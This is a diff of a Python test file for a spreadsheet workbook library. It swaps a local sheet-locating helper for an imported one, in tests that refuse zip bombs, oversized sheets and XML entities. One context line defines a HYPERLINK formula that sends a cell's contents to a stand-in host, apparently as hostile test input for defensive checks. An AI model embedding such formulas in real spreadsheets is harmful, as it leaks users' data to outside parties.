@@ -22,6 +22,7 @@ from xlsizer.workbook import project as project_mod
 from xlsizer.workbook import read_project, write_template
 from xlsizer.workbook.checklist import ChecklistItem
 from xlsizer.workbook.markdown import decision_log_markdown
+from xlsizer.workbook.project import sheet_part
 from xlsizer.workbook.safe import CELL_MAX_CHARS, md_text, put_text
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&Inputs!C6,"click")'
@@ -124,18 +125,6 @@ def template_bytes(tmp_path_factory) -> bytes:
     return write_template(tmp_path_factory.mktemp("t") / "p.xlsx", {"concurrent_users": 100}).read_bytes()
 
 
-def _sheet_part(raw: bytes, title: str) -> str:
-    """The zip part that holds the template's sheet ``title`` (via the workbook's relationships)."""
-    with zipfile.ZipFile(io.BytesIO(raw)) as z:
-        rid = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="([^"]+)"',
-                        z.read("xl/workbook.xml").decode()).group(1)
-        target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"|'
-                           rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"',
-                           z.read("xl/_rels/workbook.xml.rels").decode())
-    path = target.group(1) or target.group(2)
-    return path.lstrip("/") if path.startswith("/") else f"xl/{path}"
-
-
 def _rewrite(tmp_path: Path, raw: bytes, edit, name: str = "bad.xlsx") -> Path:
     """A copy of the package with ``edit(filename, data) -> data | None`` applied to each part
     (None drops it); ``edit`` may also return extra parts under the key ``"__add__"``."""
@@ -200,7 +189,7 @@ def test_zip_bomb_part_is_refused_from_the_directory(tmp_path, template_bytes):
 
 
 def test_too_many_cells_is_refused_before_parsing(tmp_path, template_bytes):
-    catalog = _sheet_part(template_bytes, "Catalog")
+    catalog = sheet_part(template_bytes, "Catalog")
     cells = b"".join(b'<row r="%d"><c r="Z%d" t="n"><v>1</v></c></row>' % (r, r) for r in range(2000, 2000 + 60_000))
 
     def edit(fname, data):
@@ -233,7 +222,7 @@ def test_xml_entities_are_refused(tmp_path, template_bytes, part):
 
 
 def test_checklist_far_down_is_refused_not_walked(tmp_path, template_bytes):
-    checklist = _sheet_part(template_bytes, "Checklist")
+    checklist = sheet_part(template_bytes, "Checklist")
 
     def edit(fname, data):
         if fname == "__add__":
